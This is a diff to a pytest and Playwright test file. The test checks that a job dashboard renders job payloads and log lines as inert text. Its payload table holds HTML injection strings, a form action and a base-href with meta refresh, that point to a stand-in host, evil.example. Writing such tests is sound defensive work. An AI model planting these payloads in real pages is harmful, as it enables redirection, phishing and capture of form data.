@@ -22,9 +22,10 @@ PAYLOADS = {
     "form": "<form action=//evil.example><button autofocus>go</button></form>",
     "base": "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
 }
-SOME = ("image", "attribute", "closing", "template")
-"""One for each way into a page: as an element, in an attribute, out of an element, and as a
-template. The others are elements, as `image` is; an address must be alone."""
+SOME = ("attribute", "template", "image", "closing")
+"""One for each way into a page: in an attribute, as a template, as an element, and out of an
+element. The others are elements, as `image` is; an address must be alone. What leaves an attribute
+stands where it begins, and `template` where no row of a list has cut the text."""
 TEXTS = [
     pytest.param(["".join(PAYLOADS[name] for name in SOME), PAYLOADS["address"]], id="together"),
     pytest.param([*PAYLOADS.values()], id="each", marks=pytest.mark.long),
@@ -64,8 +65,9 @@ def test_whatever_a_job_carries_and_says_is_text(lasting_dashboard: Any, texts: 
     for text, pair in jobs.items():
         for job_id in pair:
             page = lasting_dashboard.open(f"/ui/jobs/{job_id}")
-            expect(page.locator("#payload")).to_contain_text(text[:20])
-            expect(page.locator("#log .line").first).to_contain_text(text[:20])
+            for part in (text[:20], text[-20:]):
+                expect(page.locator("#payload")).to_contain_text(part)
+                expect(page.locator("#log .line").first).to_contain_text(part)
             assert is_inert(page)
 
 
